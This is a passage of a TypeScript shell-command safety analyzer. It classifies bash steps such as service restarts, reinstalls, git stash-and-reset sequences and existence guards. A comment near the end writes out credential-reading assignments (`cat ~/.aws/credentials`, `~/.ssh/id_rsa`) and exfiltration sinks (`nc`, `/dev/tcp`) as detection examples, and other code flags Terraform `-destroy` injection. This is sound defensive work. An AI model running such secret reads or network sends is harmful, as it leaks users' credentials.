  return nomadJobForm(pgCtlTiming(out.slice(i)));
}

/**
 * Nomad's job stop and run in one form, so that a stop and the run that brings the job back compare (round 34): the
 * legacy top-level `nomad stop|run` is `nomad job stop|run`; a stop's options that only say how it waits or asks (`-yes`,
 * `-detach`, `-verbose`) are dropped; `nomad job run [options] DIR/NAME.nomad.hcl` (or `.nomad`, `.hcl`) is `nomad job
 * start NAME`: a job file is named for the job it defines (Nomad's own examples, `nomad job init` writes `example.nomad.hcl`
 * for the job `example`). Other words are left as they are.
 */
function nomadJobForm(argv: string[]): string[] {
  if (argv[0] !== 'nomad') return argv;
  const words = argv[1] === 'job' ? argv.slice(2) : argv.slice(1);
  if (words[0] === 'stop') return ['nomad', 'job', 'stop', ...words.slice(1).filter((w) => !/^--?(yes|y|detach|verbose)$/.test(w))];
  const file = words.at(-1) ?? '';
  const name = /(?:^|\/)([\w.-]+?)(?:\.nomad\.hcl|\.nomad|\.hcl)$/.exec(file)?.[1];
  if (words[0] === 'run' && name !== undefined && words.slice(1, -1).every((w) => /^--?(detach|verbose)$/.test(w))) return ['nomad', 'job', 'start', name];
  return argv;
}
function markRestarts(node: Node, scope: ShellScope, env: ShellEnv): void {
  // A list is read by the sequence or list that holds it, as one chain of its steps.
  if (node.type === 'list' && (node.parent?.type === 'list' || SEQUENCES.has(node.parent?.type ?? ''))) return;
  const steps = serviceSteps(node, scope);
  for (const i of restartedStops(steps)) {
    const stopNode = steps[i]!.node!;
    // SECURITY: by the tree as well as the position: a nested source (`bash -c '…'`) counts its positions from 0.
    const marks = (env.restarted ??= new WeakMap()).get(stopNode.tree) ?? new Set<number>();
    env.restarted.set(stopNode.tree, marks.add(stopNode.startIndex));
  }
}

/** A step's key for the restart rule: its fixed words, one NUL between each. */
const stepKey = (argv: readonly string[]): string => argv.join('\0');

/**
 * The steps of a sequence (a program, a block, a subshell) or of one list, each statement's `&&`/`||` chain read step by
 * step, as restarts.ts restartedStops reads them. A statement sent to the background (`&`) stops and starts nothing the
 * rule can pair; `set -e` (or `set -o errexit`, a shebang's `-e`, an `ERR` trap) anywhere in the script makes every step's
 * failure end it, as `&&` would.
 */
function serviceSteps(node: Node, scope: ShellScope): Array<ServiceStep & { node: Node | null }> {
  const steps: Array<ServiceStep & { node: Node | null }> = [];
  // One statement that is not a `&&`/`||` chain (or none, or a comment) is one step at most: read without listing the
  // node's children (a one-command line's program).
  if (node.type !== 'list' && node.namedChildCount <= 1 && node.firstNamedChild?.type !== 'list') return steps;
  const parts = node.type === 'list' ? [node] : node.children.filter((c): c is Node => c !== null && c.type !== 'comment' && c.type !== '\n');
  const chains = parts.map((part) => (part.isNamed ? chainSteps(part) : []));
  // restartedStops pairs a stop with a later step: fewer than two steps pair nothing, so they are not read (speed37: reading
  // the one step of a one-command line, its words and the script's `set -e`, was ~11 % of that line's time).
  if (chains.reduce((n, leaves) => n + leaves.length, 0) < 2) return steps;
  const errexit = ERREXIT.test(node.tree.rootNode.text);
  parts.forEach((part, k) => {
    if (!part.isNamed) return;
    const background = parts[k + 1]?.type === '&';
    const leaves = chains[k]!;
    leaves.forEach(({ leaf, op }, n) => {
      const last = n === leaves.length - 1;
      const then: ServiceStep['then'] = !last ? (op === '||' ? 'on-failure' : 'on-success') : errexit ? 'on-success' : 'always';
      steps.push({ ...restartStep(leaf, scope, background), then });
    });
  });
  return steps;
}
const ERREXIT = /(^|[\s;&|({])set\s+(-[a-zA-Z]*e[a-zA-Z]*|-o\s+errexit)\b|^#!\S*\s+(\S+\s+)?-[a-zA-Z]*e|\btrap\b[^\n]*\bERR\b/m;

/** The simple steps of a statement's `&&`/`||` chain in order (`a && b || c` nests as `(a && b) || c`), each with the operator after it. */
function chainSteps(node: Node): Array<{ leaf: Node; op: string | null }> {
  if (node.type !== 'list') return [{ leaf: node, op: null }];
  const out: Array<{ leaf: Node; op: string | null }> = [];
  for (const c of node.children) {
    if (c === null || c.type === 'comment') continue;
    if (!c.isNamed) {
      const prev = out[out.length - 1];
      if (prev) prev.op = c.type;
      continue;
    }
    out.push(...chainSteps(c));
  }
  return out;
}

/** Commands that end the script or leave the sequence (`exec` replaces the shell: nothing after it runs). */
const ENDS_SEQUENCE = /^(exit|return|exec|break|continue|logout)$/;

/** What one step stops and starts, and whether it waits, is a documented flow, or may end the script. */
function restartStep(leaf: Node, scope: ShellScope, background: boolean): Omit<ServiceStep, 'then'> & { node: Node | null } {
  const none = { node: null, stops: null, starts: [], wait: false, mayEnd: false };
  if (leaf.type !== 'command') {
    // A block, a loop, a pipeline or a redirected command: what it may end the script with, and nothing it pairs.
    const inner = leaf.descendantsOfType('command').some((c) => ENDS_SEQUENCE.test(c.childForFieldName('name')?.text ?? ''));
    return { ...none, mayEnd: inner };
  }
  const name = leaf.childForFieldName('name');
  const word = name ? evalWord(name, scope.vars).value : null;
  // SECURITY: a command whose name the input does not fix may be `exit`.
  if (word === null || ENDS_SEQUENCE.test(word)) return { ...none, mayEnd: true };
  const argv = fixedArgv(leaf, scope);
  if (background) return none;
  if (word === 'sleep') return { ...none, ...waitOf(argv === null ? null : sleepSeconds(argv.slice(1))) };
  if (argv !== null && certbotStandalone(argv)) return { ...none, wait: true };
  // The lead's answer 256: a backup copy between `db.fsyncLock()` and its unlock. (`fixedArgv` with stamps differs
  // from `argv` only where `argv` is null: a word whose only expansion is a date.)
  if (BACKUP_COPY.test((argv ?? fixedArgv(leaf, scope, true) ?? []).join(' '))) return { ...none, flowFor: (key) => key.includes('db.fsyncUnlock()') };
  if (argv === null) return none;
  // Round 37 (ot37, the lead's answer 377.8): a link's settings changed while it is down (a CAN bitrate, `type can bitrate
  // 250000`, can only be set then; an address, an MTU) are the flow of one restart: `ip link set can0 down && ip link set
  // can0 type can bitrate 250000 && ip link set can0 up` pairs the down with the up.
  // The lead's answer 386.6 (round 38): a service's own cache removed while it is stopped (SSSD's documented way to clear
  // its cache: stop sssd, remove /var/lib/sss/db/*, start sssd) is the flow of one restart of that service.
  const cached = serviceCacheCleared(argv);
  if (cached !== null) return { ...none, flowFor: (key) => { const words = key.split('\0'); return words.includes('start') && words.some((w) => w.replace(/\.service$/, '') === cached); } };
  const iface = linkSettingWhileDown(argv);
  if (iface !== null) return { ...none, flowFor: (key) => /^ip\0link\0set\0(dev\0)?([^\0]+)\0up$/.exec(key)?.[2] === iface };
  return { node: leaf, stops: restartKey(argv), starts: [stepKey(argv)], wait: false, mayEnd: false };
}

/** Services whose own cache folders their documentation says to empty while they are stopped (sssd(8), nscd(8)). */
const SERVICE_CACHE_FOLDERS: ReadonlyArray<{ service: string; folder: RegExp }> = [
  { service: 'sssd', folder: /^\/var\/lib\/sss\/(db|mc)\/(\*|[\w.*-]+\.(ldb|cache))?$/ },
  { service: 'nscd', folder: /^\/var\/cache\/nscd\/(\*|[\w.*-]+)?$/ },
];
/** `rm [-r] [-f] PATH…` whose every path is inside one service's cache folder (SERVICE_CACHE_FOLDERS): that service. */
function serviceCacheCleared(argv: readonly string[]): string | null {
  if (argv[0]?.replace(/^.*\//, '') !== 'rm') return null;
  const flags = argv.slice(1).filter((w) => w.startsWith('-'));
  const paths = argv.slice(1).filter((w) => !w.startsWith('-'));
  if (paths.length === 0 || !flags.every((f) => /^-[rRf]+$/.test(f))) return null;
  const row = SERVICE_CACHE_FOLDERS.find((r) => paths.every((p) => r.folder.test(p)));
  return row?.service ?? null;
}

/** The start that brings back what a restartable stop (RESTARTABLE_STOPS) stopped, keyed as stepKey: its first stop verb turned into its start. */
function restartKey(argv: readonly string[]): string | null {
  if (argv.some((w) => /\s/.test(w) || w === '') || !RESTARTABLE_STOPS.some((re) => re.test(argv.join(' ')))) return null;
  const at = argv.findIndex((w) => STARTED_BY.has(w));
  return at === -1 ? null : stepKey(argv.map((w, i) => (i === at ? STARTED_BY.get(w)! : w)));
}

/** The interface an `ip link set [dev] IF` changes a setting of (CAN timing, an address, an MTU, a queue length), or null. */
function linkSettingWhileDown(argv: readonly string[]): string | null {
  const m = /^ip link set (dev )?(\S+) (type can( (bitrate|sample-point|tq|prop-seg|phase-seg1|phase-seg2|sjw|dbitrate|dsample-point|dtq|dsjw|restart-ms|loopback|listen-only|triple-sampling|one-shot|berr-reporting|fd|fd-non-iso|presume-ack|termination) \S+)+|(address|mtu|txqueuelen|qlen) \S+)$/.exec(argv.join(' '));
  return m ? m[2]! : null;
}

/** sleep(1)'s operands in seconds, summed (`5`, `1.5m`, `2h`, `1d`); null when one is not a fixed number (`infinity`). */
function sleepSeconds(operands: readonly string[]): number | null {
  if (operands.length === 0) return null;
  let total = 0;
  for (const w of operands) {
    const m = /^(\d+(?:\.\d+)?)([smhd]?)$/.exec(w);
    if (!m) return null;
    total += Number(m[1]) * ({ '': 1, s: 1, m: 60, h: 3600, d: 86400 } as Record<string, number>)[m[2]!]!;
  }
  return total;
}

/**
 * `certbot certonly --standalone …` (certbot's documented flow for a port the web server holds: its own server answers the
 * challenge, then exits), with no hook of its own (`--pre-hook`, `--post-hook`, `--deploy-hook` run other commands).
 */
function certbotStandalone(argv: readonly string[]): boolean {
  return argv[0] === 'certbot' && argv[1] === 'certonly' && argv.includes('--standalone') && !argv.some((w) => /^--(pre|post|deploy|manual-auth|manual-cleanup)-hook\b/.test(w));
}

/** Whether every operator of a list, through its nested lists, is `&&`: each command runs only when the ones before succeeded. */
function andChain(node: Node): boolean {
  return node.children.every((c) => c === null || (c.type === 'list' ? andChain(c) : c.isNamed || c.type === '&&'));
}

/** The simple commands of a list, through its nested lists (`a && b && c` nests as `(a && b) && c`). */
function listCommands(node: Node): Node[] {
  return listLeaves(node).filter((c) => c.type === 'command');
}

/**
 * `rm -rf vendor && go mod vendor`: a folder another command of the same `&&` list writes again (regenerated.ts) is
 * build output for the whole list (and only for it: the caller puts the scope's build output back after the list). Not
 * across a `cd`, which would make the same word name another folder.
 */
function markRegenerated(node: Node, scope: ShellScope): void {
  // `rm -rf src || go build -o src/app .`: the build runs only when the deletion failed; nothing writes the folder again.
  if (!andChain(node)) return;
  let commands = listCommands(node);
  // A `cd` first (`cd api && rm -rf bin && go build -o bin/api`) moves every later command to one folder.
  let at = scope;
  const first = commands[0] ? fixedArgv(commands[0], scope) : null;
  if (first?.[0] === 'cd' && first.length === 2 && !first[1]!.startsWith('-')) {
    const cwd = resolvePath(first[1]!, scope);
    if (cwd === null) return;
    at = { ...childScope(scope), cwd };
    commands = commands.slice(1);
  }
  if (commands.some((c) => /^(cd|pushd|popd)$/.test(c.childForFieldName('name')?.text ?? ''))) return;
  const argvs = commands.map((c) => fixedArgv(c, at));
  const folders = [...argvs.flatMap((argv) => regeneratedFolders(argv ?? [])), ...snapshotFoldersWrittenAgain(argvs)];
  const paths = folders.flatMap((f) => resolvePath(f, at)?.toLowerCase() ?? []);
  if (paths.length > 0) scope.buildOutput = new Set([...(scope.buildOutput ?? []), ...paths]);
  const sweeps = filesWrittenAgain(argvs).flatMap(({ root, name }) => {
    const abs = resolvePath(root, at);
    return abs === null ? [] : [`${abs.toLowerCase()}\0${name}`];
  });
  if (sweeps.length > 0) scope.generatedSweeps = new Set([...(scope.generatedSweeps ?? []), ...sweeps]);
  const snapshots = snapshotsMadeThenRemoved(argvs);
  if (snapshots.length > 0) scope.madeSnapshots = new Set([...(scope.madeSnapshots ?? []), ...snapshots]);
  // `sudo rm -rf /usr/local/go && sudo tar -C /usr/local -xzf go1.23.linux-amd64.tar.gz` (the lead's answer 76): a
  // toolchain folder removed and then unpacked again from a fixed archive is a reinstall. The removal comes first and
  // nothing after the unpack removes anything.
  const reinstalled = new Set<string>();
  argvs.forEach((argv, i) => {
    const unpack = argv ? unpackedInto(argv) : null;
    const dir = unpack ? resolvePath(unpack.dir, at) : null;
    if (!unpack || dir === null || argvs.slice(i + 1).some((a) => a === null || a[0] === 'rm')) return;
    for (const earlier of argvs.slice(0, i)) {
      if (earlier?.[0] !== 'rm') continue;
      for (const w of earlier.slice(1).filter((x) => !x.startsWith('-'))) {
        const abs = resolvePath(w, at)?.replace(/\/+$/, '') ?? null;
        if (abs !== null && isUnpackedToolchain(abs, dir, unpack.archive)) reinstalled.add(abs.toLowerCase());
      }
    }
  });
  for (const old of supersededInstalls(argvs, at)) reinstalled.add(old);
  if (reinstalled.size > 0) scope.reinstalled = new Set([...(scope.reinstalled ?? []), ...reinstalled]);
}

/** A versioned install folder directly under /opt (`/opt/idea-IC-233.14475.28`, `/opt/protoc-25.1`): its family and version. */
const OPT_VERSIONED = /^\/opt\/([a-z][\w+]*(?:-[a-z][\w+]*)*-)(\d+(?:\.\d+)+(?:-[\w.]+)?)$/i;
/**
 * The lead's answer 343.3 (round 32): a versioned install folder under /opt removed in an `&&` list that also shows its
 * successor is an old version's cleanup: the list lists the family (`ls -d /opt/idea-IC-*`) or links its name to another
 * version of it (`ln -sfn /opt/protoc-27.3 /opt/protoc`). The removed folders, lower case; an unversioned /opt folder is not one.
 */
function supersededInstalls(argvs: ReadonlyArray<string[] | null>, at: ShellScope): string[] {
  const out: string[] = [];
  for (const argv of argvs) {
    if (argv?.[0] !== 'rm' || !argv.some((w) => /^-[a-zA-Z]*[rR]/.test(w) || w === '--recursive')) continue;
    for (const w of argv.slice(1).filter((x) => !x.startsWith('-'))) {
      const abs = resolvePath(w, at)?.replace(/\/+$/, '') ?? null;
      const m = abs === null ? null : OPT_VERSIONED.exec(abs);
      if (!m) continue;
      const [, family, version] = m;
      const shown = argvs.some((a) => {
        if (a?.[0] === 'ls') return a.slice(1).includes(`/opt/${family}*`);
        if (a?.[0] !== 'ln' || !a.some((x) => /^-[a-zA-Z]*s/.test(x) || x === '--symbolic')) return false;
        return a.slice(1).some((x) => {
          const n = OPT_VERSIONED.exec(x.replace(/\/+$/, ''));
          return n !== null && n[1] === family && n[2] !== version;
        });
      });
      if (shown) out.push(abs!.toLowerCase());
    }
  }
  return out;
}

/** `cd DIR && …`: the folder the list's later commands run in, or none of them runs (ShellScope.guardedCwd). */
function markGuardedCd(node: Node, scope: ShellScope): void {
  if (!andChain(node)) return;
  const cwd = cdTarget(listLeaves(node)[0], scope);
  if (cwd !== null) scope.guardedCwd = cwd;
}

/** The absolute folder a plain `cd DIR` (fixed words, no option) moves to, or null. */
function cdTarget(command: Node | null | undefined, scope: ShellScope): string | null {
  const argv = command?.type === 'command' ? fixedArgv(command, scope) : null;
  if (argv?.[0] !== 'cd' || argv.length !== 2 || argv[1]!.startsWith('-')) return null;
  return resolvePath(argv[1]!, scope);
}

/** `cd DIR || exit [N]` (or `return`): the folder every later command of the script runs in, when it runs at all. */
function cdOrExit(node: Node, scope: ShellScope): string | null {
  const [left, right] = node.namedChildren;
  if (!node.children.some((c) => c?.type === '||') || right?.type !== 'command') return null;
  return /^(exit|return)$/.test(right.childForFieldName('name')?.text ?? '') ? cdTarget(left, scope) : null;
}

/**
 * What git keeps before an `&&` list discards it (each step runs only when the one before succeeded):
 * - `git stash` (or `stash push|save`) of everything (no pathspec, `--patch` or `--staged`) saves the index and the
 *   working tree's changes to tracked files (git-stash(1)); a `git reset --hard` right after it (only `git fetch` between)
 *   throws away nothing the stash does not hold, and leaves untracked files alone (git-reset(1)).
 * - `git push REMOTE NAME` sends the branch's commits to the remote; a `git branch -D NAME` after it loses none.
 * Only plain `git` words (no `-C`, no `sudo`), no `cd`, and a discard that does not also appear before its save.
 */
const STASH_FLAG = /^(-u|--include-untracked|-a|--all|-q|--quiet|-k|--keep-index|--no-keep-index)$/;
const PUSH_FLAG = /^(-u|--set-upstream|-q|--quiet|--follow-tags|--no-verify|--verbose|-v)$/;
function markGitSaved(node: Node, scope: ShellScope): void {
  if (!andChain(node)) return;
  const leaves = listLeaves(node);
  if (leaves.some((c) => c.type !== 'command')) return;
  const keep = gitSavedSteps(leaves.map((c) => fixedArgv(c, scope)));
  if (keep.length > 0) scope.gitSaved = new Set([...(scope.gitSaved ?? []), ...keep]);
}

/**
 * Round 35 (s35), the lead's answer 359.4: a check of the pull request's state earlier in an `&&` list shows the branch
 * merged, so a `git branch -D NAME` after it (each step runs only when the one before succeeded) loses no commit the
 * merge did not keep (a squash merge leaves none reachable, which is why `-d` refuses): `gh pr view NAME --json state -q
 * .state | grep -q MERGED` or `[ "$(gh pr view NAME --json state -q .state)" = MERGED ]`. Added to the list's saved git
 * steps (markGitSaved). Only the branch the check names; a check that is not fixed, or of another branch, shows nothing.
 */
const PR_STATE_QUERY = /^gh pr view ([\w][\w./-]*) --json state (?:-q|--jq) \.state$/;
const PR_MERGED_TEST = /^\[\[?\s+"\$\(\s*gh pr view ([\w][\w./-]*) --json state (?:-q|--jq) '?\.state'?\s*\)"\s+==?\s+"?MERGED"?\s+\]\]?$/;
function markMergedChecked(node: Node, scope: ShellScope): void {
  if (!andChain(node)) return;
  const merged = new Set<string>();
  const keep: string[] = [];
  for (const leaf of listLeaves(node)) {
    const stages = leaf.type === 'pipeline' ? leaf.namedChildren.filter((c): c is Node => c !== null) : [];
    const query = stages.length === 2 ? fixedArgv(stages[0]!, scope)?.join(' ') : undefined;
    const grep = stages.length === 2 ? fixedArgv(stages[1]!, scope) : null;
    const piped = query !== undefined && grep !== null && grep[0] === 'grep' && /^(MERGED|\^MERGED\$)$/.test(grep.at(-1) ?? '') && grep.slice(1, -1).every((a) => /^-[qxFw]+$/.test(a)) && grep.slice(1, -1).some((a) => a.includes('q')) ? PR_STATE_QUERY.exec(query)?.[1] : undefined;
    const tested = leaf.type === 'test_command' ? PR_MERGED_TEST.exec(leaf.text)?.[1] : undefined;
    if (piped !== undefined || tested !== undefined) merged.add((piped ?? tested)!);
    const argv = leaf.type === 'command' ? fixedArgv(leaf, scope) : null;
    if (argv !== null && argv[0] === 'git' && argv[1] === 'branch' && argv.length >= 4 && argv.slice(2, -1).every((a) => /^(-D|-f|-q|--force|--delete|--quiet|-d)$/.test(a)) && argv.slice(2).includes('-D') && merged.has(argv.at(-1)!)) keep.push(argv.join('\0'));
  }
  if (keep.length > 0) scope.gitSaved = new Set([...(scope.gitSaved ?? []), ...keep]);
}

/**
 * The git steps of an `&&` list (each command's fixed words, null when not fixed) whose loss an earlier step saved, by
 * their words joined with NUL (markGitSaved; cmd's walk reads its `&&` lines with it too).
 */
export function gitSavedSteps(argvs: (string[] | null)[]): string[] {
  const saved = new Set<string>();
  const unsaved = new Set<string>();
  let stashed = false;
  const pushed = new Set<string>();
  for (const argv of argvs) {
    const key = argv?.join('\0');
    if (argv === null || argv[0] !== 'git' || argv[1]?.startsWith('-') || argvs.length > 8) {
      if (argv === null || /^(cd|pushd|popd|sudo)$/.test(argv[0] ?? '')) pushed.clear();
      stashed = false;
      continue;
    }
    const [, sub, ...rest] = argv;
    const hardReset = sub === 'reset' && rest.includes('--hard') && rest.every((a) => a === '--hard' || a === '-q' || a === '--quiet' || !a.startsWith('-')) && rest.filter((a) => !a.startsWith('-')).length <= 1;
    const forceDelete = sub === 'branch' && rest.length >= 2 && rest[0] === '-D' && rest.slice(1).every((n) => pushed.has(n));
    if ((hardReset && stashed) || forceDelete) saved.add(key!);
    else unsaved.add(key!);
    if (sub === 'stash') stashed = fullStash(rest);
    else if (sub !== 'fetch') stashed = false;
    if (sub === 'push') for (const n of pushedBranches(rest)) pushed.add(n);
  }
  return [...saved].filter((k) => !unsaved.has(k));
}

/** The parts of a list, through its nested lists: its commands and any other statement (a pipeline, a subshell…). */
function listLeaves(node: Node): Node[] {
  return node.namedChildren.flatMap((c) => (c === null ? [] : c.type === 'list' ? listLeaves(c) : [c]));
}

/** `git stash`, `git stash push [-u] [-m MSG]`, `git stash save [MSG]`: every change saved (not `-p`, `--staged`, a pathspec). */
function fullStash(rest: string[]): boolean {
  const [op, ...opts] = rest;
  if (op === undefined) return true;
  if (op !== 'push' && op !== 'save') return STASH_FLAG.test(op) && opts.every((a) => STASH_FLAG.test(a));
  for (let i = 0; i < opts.length; i++) {
    const a = opts[i]!;
    if (a === '-m' || a === '--message') i++;
    else if (a.startsWith('--message=') || STASH_FLAG.test(a)) continue;
    else if (op === 'save' && i === opts.length - 1 && !a.startsWith('-')) continue;
    else return false;
  }
  return true;
}

/** The branches `git push [-u] REMOTE NAME…` sends under their own names (no refspec with `:`, `+`, no delete or dry run). */
function pushedBranches(rest: string[]): string[] {
  if (rest.some((a) => a.startsWith('-') && !PUSH_FLAG.test(a))) return [];
  const pos = rest.filter((a) => !a.startsWith('-'));
  return pos.slice(1).filter((n) => /^[\w][\w./-]*$/.test(n) && !n.includes('..') && n !== 'HEAD');
}

/**
 * `test -f F || CMD`, `[ -e F ] || CMD`, `[[ -s F ]] || CMD`: CMD runs only when F does not exist (bash manual,
 * "Lists of Commands": the right of `||` runs when the left fails), so its write of F creates F. F's absolute path, or
 * null for any other list.
 */
/** The scope of a guard's right side (`test -f F || …`): F is absent there, shown so by the guard alone. */
function guardedAbsent(scope: ShellScope, path: string): ShellScope {
  return { ...scope, absent: new Set([...(scope.absent ?? []), path]), absentByGuard: new Set([...(scope.absentByGuard ?? []), path]) };
}

/**
 * `fuser F… || CMD`: fuser(1) exits non-zero when no process accesses any of the files, so CMD runs only then (the lead's
 * answer 343.1: a lock file removed after this check releases a stale hold). The files as absolute paths; null for any
 * other list, a fuser that sends a signal (`-k`), or a file the input does not fix.
 */
function fuserGuard(node: Node, scope: ShellScope): string[] | null {
  const [left, right] = node.namedChildren;
  if (!left || !right || node.namedChildren.length !== 2 || !node.children.some((c) => c?.type === '||') || left.type !== 'command') return null;
  const argv = fixedArgv(left, scope);
  if (argv?.[0] !== 'fuser' || argv.some((w) => /^(-[a-zA-Z]*[kimn][a-zA-Z]*|--(kill|interactive|mount|namespace)|-[A-Z]+\d*|-\d+)$/.test(w))) return null;
  const files = argv.slice(1).filter((w) => !w.startsWith('-'));
  const paths = files.map((f) => resolvePath(f, scope));
  return files.length > 0 && paths.every((p) => p !== null) ? (paths as string[]) : null;
}

function existenceGuard(node: Node, scope: ShellScope): string | null {
  const [left, right] = node.namedChildren;
  const or = node.children.some((c) => c?.type === '||');
  const and = node.children.some((c) => c?.type === '&&');
  if (!left || !right || node.namedChildren.length !== 2 || (!or && !and)) return null;
  let operand: Node | null = null;
  if (left.type === 'command') {
    const name = left.childForFieldName('name')?.text;
    const args = left.childrenForFieldName('argument').filter((a): a is Node => a !== null);
    const parts = name === '[' && args[args.length - 1]?.text === ']' ? args.slice(0, -1) : name === 'test' ? args : [];
    if (or && parts.length === 2 && /^-[efs]$/.test(parts[0]!.text)) operand = parts[1]!;
    // Round 41 (nv41): `[ ! -f F ] && CMD`, `test ! -e F && CMD`: the right of `&&` runs when the left succeeds, when F
    // does not exist: the same guard as `test -f F || CMD`.
    if (and && parts.length === 3 && parts[0]!.text === '!' && /^-[ef]$/.test(parts[1]!.text)) operand = parts[2]!;
  } else if (and && left.type === 'test_command' && left.namedChildren.length === 1) {
    // `[ ! -f F ] && CMD`, `[[ ! -e F ]] && CMD`: tree-sitter-bash reads `!` as a unary expression around the test.
    const outer = left.namedChildren[0]!;
    const inner = outer.type === 'unary_expression' && outer.text.startsWith('!') && outer.namedChildren.length === 1 ? outer.namedChildren[0]! : null;
    const op = inner?.type === 'unary_expression' ? inner.childForFieldName('operator')?.text : undefined;
    const words = inner ? inner.namedChildren.filter((c) => c?.type !== 'test_operator') : [];
    if (op && /^-[ef]$/.test(op) && words.length === 1) operand = words[0]!;
  }
  if (!or) {
    const value = operand ? evalWord(operand, scope.vars).value : null;
    return value === null ? null : resolvePath(value, scope);
  }
  if (left.type === 'test_command' && left.namedChildren.length === 1) {
    const expr = left.namedChildren[0]!;
    const op = expr.childForFieldName('operator')?.text;
    const words = expr.namedChildren.filter((c) => c?.type !== 'test_operator');
    if (expr.type === 'unary_expression' && op && /^-[efs]$/.test(op) && words.length === 1) operand = words[0]!;
  }
  const value = operand ? evalWord(operand, scope.vars).value : null;
  return value === null ? null : resolvePath(value, scope);
}

function isWordLike(type: string): boolean {
  return type === 'word' || type === 'string' || type === 'raw_string' || type === 'concatenation' || type === 'simple_expansion' || type === 'expansion' || type === 'number' || type === 'ansi_c_string';
}

/** Commands inside `$(...)`, backticks and `<(...)` run too. */
function visitSubstitutions(node: Node, scope: ShellScope, env: ShellEnv, offset: number): void {
  if (node.type === 'command_substitution' || node.type === 'process_substitution') {
    visitChildren(node, childScope(scope), env, null, offset);
    return;
  }
  for (const c of node.namedChildren) if (c) visitSubstitutions(c, scope, env, offset);
}

/**
 * Round 42 (nxa42, the lead's answer 431.4; atk41's class 12): a shell variable that holds a secret, because its value is
 * a command substitution whose output is one (`T=$(cat ~/.aws/credentials)`, `K=$(< ~/.ssh/id_rsa)`, `P=$(vault kv get
 * -field=pw secret/db | tr -d '\n')`) or because it copies such a variable (`U="$T"`, `H="Bearer $T"`): the mark holds what
 * the secret is; SECRET_COMMAND_MARK the substitution's command, for the issuer a token may be sent to (http.ts). Read by
 * what prints the variable (`echo "$T" | nc …`, `> /dev/tcp/…`), a here-string, and curl's data and URLs (secret-sources.ts
 * SECRET_VARIABLE_MARK).
 */
function assignedSecret(value: Node, scope: ShellScope): { what: string; command?: string } | undefined {
  let n: Node = value;
  while (n.type === 'string' && n.namedChildren.length === 1 && n.namedChildren[0]?.type === 'command_substitution') n = n.namedChildren[0]!;
  if (n.type === 'command_substitution') {
    const read = /^\$\(\s*<\s*(\S+)\s*\)$/.exec(n.text);
    if (read) {
      const file = evalWord(n.namedChildren[0]?.childForFieldName('destination') ?? n, scope.vars).value ?? read[1]!;
      const abs = resolvePath(file, scope);
      return isCredentialFileName(file) || (abs !== null && isCredentialFile(abs)) ? { what: `the credential file \`${file}\`` } : undefined;
    }
    const inner = n.namedChildren.filter((c): c is Node => c !== null && c.type !== 'comment');
    if (inner.length !== 1) return undefined;
    const stages = inner[0]!.type === 'pipeline' ? inner[0]!.namedChildren.filter((c): c is Node => c !== null && c.type !== 'comment') : [inner[0]!];
    let out: Stdin | null = null;
    for (const stage of stages) out = describeProducer(stage, scope, out);
    return out?.secret !== undefined ? { what: out.secret, command: stages[0]!.text } : undefined;
  }
  const carried = secretVariableExpanded(value.text, scope.vars);
  return carried === undefined ? undefined : { what: scope.vars.get(`${SECRET_VARIABLE_MARK}${carried}`) ?? `the secret in \`$${carried}\``, ...(scope.vars.has(`${SECRET_COMMAND_MARK}${carried}`) ? { command: scope.vars.get(`${SECRET_COMMAND_MARK}${carried}`)! } : {}) };
}

function assign(node: Node, scope: ShellScope, env: ShellEnv, offset: number): void {
  const name = node.childForFieldName('name')?.text;
  const value = node.childForFieldName('value');
  if (value) visitSubstitutions(value, scope, env, offset);
  if (!name) return;
  const secret = value ? assignedSecret(value, scope) : undefined;
  scope.vars.delete(`${SECRET_VARIABLE_MARK}${name}`);
  scope.vars.delete(`${SECRET_COMMAND_MARK}${name}`);
  if (secret !== undefined) {
    scope.vars.set(`${SECRET_VARIABLE_MARK}${name}`, secret.what);
    if (secret.command !== undefined) scope.vars.set(`${SECRET_COMMAND_MARK}${name}`, secret.command);
  }
  const fromCacheFolder = value !== null && holdsCacheFolder(value, scope.vars);
  scope.vars.set(name, value ? assignedValue(name, value, scope.vars) : '');
  if (fromCacheFolder) scope.vars.set(`${CACHE_FOLDER_MARK}${name}`, '1');
  else scope.vars.delete(`${CACHE_FOLDER_MARK}${name}`);
  markRouting(scope.vars, name);
  if (name === 'HOME') scope.home = scope.vars.get(name) ?? undefined;
  if (name === 'PATH') scope.searchPath = value?.text ?? '';
  if (name === 'TF_CLI_ARGS' || name.startsWith('TF_CLI_ARGS_')) {
    checkAssignmentEffects(name, scope.vars.get(name) ?? null, env, { start: offset + node.startIndex, end: offset + node.endIndex });
  }
}

/**
 * A variable's assigned value. An interpreter variable that extends the session's own value (`NODE_OPTIONS="$NODE_OPTIONS
 * --max-old-space-size=4096"`, `PYTHONPATH="$PYTHONPATH:./x"`) is read as its fixed part: the session's value reaches the
 * tool whether the input names it or not, and is judged where the session is (the hook's session variables).
 */
function assignedValue(name: string, value: Node, vars: Vars): string | null {
  const v = evalWord(value, vars).value;
  if (v !== null || vars.has(name) || !isInterpreterVariable(name) || !new RegExp(`\\$\\{?${name}\\b`).test(value.text)) return v;
  return evalWord(value, new Map([...vars, [name, '']])).value;
}

function checkAssignmentEffects(name: string, value: string | null, env: ShellEnv, span: { start: number; end: number }): void {
  if (value === null) {
    env.b.partial('tf_cli_args_dynamic', `\`${name}\` is set to a value we cannot see`, span);
    return;
  }
  if (/(^|\s)-(destroy|replace|auto-approve)\b/.test(value)) {
    env.b.verb('delete').destroy('tf_cli_args_destroy', `\`${name}\` injects \`${value}\` into every terraform command`, span);
  }
}

/**
 * `for b in $(gh api repos/O/R/branches -q '.[].name' | grep '^renovate/')` (round 18, p18): branch names listed by a git
 * host or git itself, kept by a grep of one fixed `^PREFIX/` start, and nothing between. Ref names hold no blanks
 * (git-check-ref-format), so each word the loop gets is a branch under PREFIX/: the body is judged once with the
 * variable set to a sample name there (`renovate/portcullis-sample`), so decision 30 reads it as the branch kind PREFIX
 * names (a bot's or feature branch; `release/` stays protected).
 */
const BRANCHES_BY_PREFIX = /^\$\(\s*(gh api \S*\/branches\b[^|]*|glab api \S*\/branches\b[^|]*|git (for-each-ref|branch)\b[^|]*)\|\s*grep\s+(-E\s+)?(['"]?)\^([A-Za-z0-9._-]+)\/\4\s*\)$/;
/**
 * `for p in $(ls packages)`, `$(ls -1)` (round 30, k30): ls(1) prints the names in one folder (no dotfiles without `-a`/`-A`),
 * which are what the pattern `*` matches there: the body is judged once with the variable holding `*` (`rm -rf
 * "packages/$p/dist"` as `packages/*\/dist`; a bare `rm -rf "$p"` as the folder's whole content). Not with any other
 * option or more than one folder (ls then prints headers, dotfiles or paths).
 */
